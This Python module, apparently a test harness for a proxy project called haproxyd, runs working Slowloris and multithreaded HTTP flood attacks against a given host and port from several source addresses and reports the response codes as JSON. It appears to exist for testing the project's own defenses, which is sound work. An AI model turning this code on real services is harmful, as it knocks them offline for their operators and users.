"""Attackers, in a process of their own: what they cost this machine is nobody's latency but theirs.

    python -m haproxyd.attack slowloris|flood HOST PORT SOURCES NUMBER

They go on until their input ends, and print the answers that they got, as JSON.
"""

from __future__ import annotations

import http.client
import json
import os
import socket
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path

from haproxyd.edge import Edge


def slowloris(edge: Edge, sources: Sequence[str], connections: int, over: threading.Event) -> None:
    """Connections that send a header every second, and never the last one."""
    held: list[socket.socket] = []
    while not over.is_set():
        while len(held) < connections and not over.is_set():
            with suppress(OSError):
                one = edge.connected(sources[len(held) % len(sources)], 0.5)
                one.setblocking(False)
                one.send(b"GET / HTTP/1.1\r\nHost: shop\r\n")
                held.append(one)
        for one in list(held):
            try:
                one.send(b"X: y\r\n")
            except BlockingIOError:
                continue
            except OSError:
                held.remove(one)
                one.close()
        over.wait(1.0)


def flood(
    edge: Edge, sources: Sequence[str], threads: int, over: threading.Event, seen: Counter[str]
) -> None:
    """Ask as fast as it goes, on kept connections."""

    def run(source: str) -> None:
        connection = http.client.HTTPConnection(
            edge.host, edge.port, timeout=5, source_address=(source, 0)
        )
        while not over.is_set():
            try:
                connection.request("GET", "/")
                got = connection.getresponse()
                got.read()
                seen[str(got.status)] += 1
            except (OSError, http.client.HTTPException):
                connection.close()

    started = [
        threading.Thread(target=run, args=[sources[number % len(sources)]], daemon=True)
        for number in range(threads)
    ]
    for one in started:
        one.start()
    over.wait()
    for one in started:
        one.join()


@contextmanager
def attacking(
    kind: str, edge: Edge, sources: Sequence[str], number: int
) -> Iterator[dict[str, int]]:
    """An attack for as long as the block lasts; what it was answered is there afterwards."""
    words = [kind, edge.host, str(edge.port), ",".join(sources), str(number)]
    process = subprocess.Popen(
        [sys.executable, "-m", "haproxyd.attack", *words],
        cwd=Path(__file__).parents[1],
        env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    answers: dict[str, int] = {}
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "begun\n"
        yield answers
        said, _ = process.communicate("", timeout=30)
        answers |= json.loads(said)
    finally:
        process.kill()
        process.communicate()


def main() -> None:
    """One attack."""
    kind, host, port, sources, number = sys.argv[1:]
    os.nice(10)
    edge, over, seen = Edge(host, int(port)), threading.Event(), Counter[str]()
    known = sources.split(",")
    work = threading.Thread(
        target=lambda: (
            slowloris(edge, known, int(number), over)
            if kind == "slowloris"
            else flood(edge, known, int(number), over, seen)
        )
    )
    work.start()
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    sys.stdin.read()
    over.set()
    work.join()
    json.dump(seen, sys.stdout)


if __name__ == "__main__":
    main()
